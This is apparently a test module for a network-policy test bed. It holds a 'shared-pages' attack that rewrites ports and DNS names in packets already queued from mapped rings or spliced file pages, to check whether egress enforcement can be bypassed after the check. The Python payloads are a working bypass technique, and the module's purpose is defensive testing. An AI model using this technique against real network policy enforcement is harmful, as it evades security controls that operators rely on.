import { setTimeout as sleep } from 'node:timers/promises';
import { cnpNames, egressPolicy, toServer } from '../netns/policies.js';
import type { Attack } from './attack.js';
import { RESOLVER } from './bed.js';
import { tcp, udp } from './craft.js';
import { A, query } from './dns.js';

/** Longer than frames need to the node, and shorter than they wait there. */
const CHANGE_S = 0.06;
const LIMIT = ['rate', '100kbit', 'burst', '1600', 'latency', '2s'];

/** Fills the queue of the node's device. */
const FILL = `
with socket.socket(socket.AF_INET6 if ":" in one else socket.AF_INET, socket.SOCK_DGRAM) as s:
    for _ in range(4): s.sendto(bytes(1400), (one, 53))
`;

/** Sends frames from a ring that is mapped (packet_mmap), and writes into them when they are on their way. */
const FROM_RING = `${FILL}import mmap
size = 4096
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.setsockopt(263, 10, 1)  # PACKET_VERSION: TPACKET_V2
s.setsockopt(263, 13, struct.pack("IIII", size, len(frames), size, len(frames)))  # PACKET_TX_RING
s.bind(("eth0", 0))
ring = mmap.mmap(s.fileno(), size * len(frames))
for i, (frame, _, _) in enumerate(frames):
    data = bytes.fromhex(frame)
    ring[i * size + 32 : i * size + 32 + len(data)] = data
    ring[i * size : i * size + 12] = struct.pack("III", 1, len(data), len(data))  # TP_STATUS_SEND_REQUEST
s.sendto(b"", socket.MSG_DONTWAIT, ("eth0", 0))
time.sleep(change)
for i, (_, at, value) in enumerate(frames):
    ring[i * size + 32 + at : i * size + 34 + at] = struct.pack("!H", value)
time.sleep(1)
ring.close()
s.close()
`;

/** Sends a datagram from a file's pages (splice), and writes into the file when it is on its way. */
const FROM_FILE = `${FILL}import mmap
data = bytes.fromhex(message)
f = os.memfd_create("query")
os.write(f, data)
pages = mmap.mmap(f, len(data))
r, w = os.pipe()
with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect((to, 53))
    os.splice(f, w, len(data), offset_src=0)
    os.splice(r, s.fileno(), len(data))
    time.sleep(change)
    pages[at : at + 2] = struct.pack("!H", value)
    time.sleep(1)
pages.close()
for one in (f, r, w): os.close(one)
`;

/** In `aa.good.test`: another name. */
const [NAME_AT, OL] = [12 + 5, 0x6f6c];

export const attack: Attack = {
  name: 'shared-pages',
  tries: 'Sends from memory that it still writes to, and writes another port or name into it when that was judged.',
  policies: () => [
    {
      ...cnpNames('attacker-queries', 'attacker', [], []),
      spec: {
        endpointSelector: { matchLabels: { app: 'attacker' } },
        egress: [
          {
            toCIDR: [`${RESOLVER[4]}/32`, `${RESOLVER[6]}/128`],
            toPorts: [{ ports: [{ port: '53', protocol: 'ANY' }], rules: { dns: [{ matchPattern: '**.good.test' }] } }],
          },
        ],
      },
    },
    egressPolicy('attacker', 'attacker', [toServer('one', 'udp/53', 'tcp/80')]),
  ],
  async run(at) {
    // What leaves the node waits, as where bandwidth is limited.
    const { node } = at.bed.world;
    await node.run('tc', ['qdisc', 'add', 'dev', 'eth0', 'root', 'tbf', ...LIMIT]);
    const l4 = 14 + (at.family === 4 ? 20 : 40);
    const [to, one] = [RESOLVER[at.family], at.address('one')];
    const asked = (marker: Buffer) => Buffer.concat([query({ id: 7, name: 'aa.good.test', type: A }), marker]);
    const portIs = (port: number) => (a: { frame: Buffer }) => a.frame.readUInt16BE(l4 + 2) === port;
    const nameIs = (a: { frame: Buffer }) => a.frame.includes('gold');
    const frames: [Buffer, number, number][] = [
      [at.frame(one, udp(at.port(), 53, at.forbid('a port of UDP', portIs(443)))), l4 + 2, 443],
      [at.frame(one, tcp(at.port(), 80, at.forbid('a port of TCP', portIs(443)))), l4 + 2, 443],
      [at.frame(to, udp(at.port(), 53, asked(at.forbid('a name, in a ring', nameIs)))), l4 + 8 + NAME_AT, OL],
      [at.frame(one, udp(at.port(), 53, at.control('a datagram from a ring', 'wire'))), l4 + 4, 16],
    ];
    await at.me.program(FROM_RING, {
      frames: frames.map(([frame, place, value]) => [frame.toString('hex'), place, value]),
      change: CHANGE_S,
      one,
    });
    const file = async (marker: Buffer, value: number) =>
      at.me.program(FROM_FILE, {
        to,
        message: asked(marker).toString('hex'),
        at: NAME_AT,
        value,
        change: CHANGE_S,
        one,
      });
    await file(at.forbid('a name, in a file', nameIs), OL);
    await file(at.control('a query from a file', 'wire'), 0x6f6f);
    await sleep(300);
    await node.run('tc', ['qdisc', 'del', 'dev', 'eth0', 'root']);
  },
};
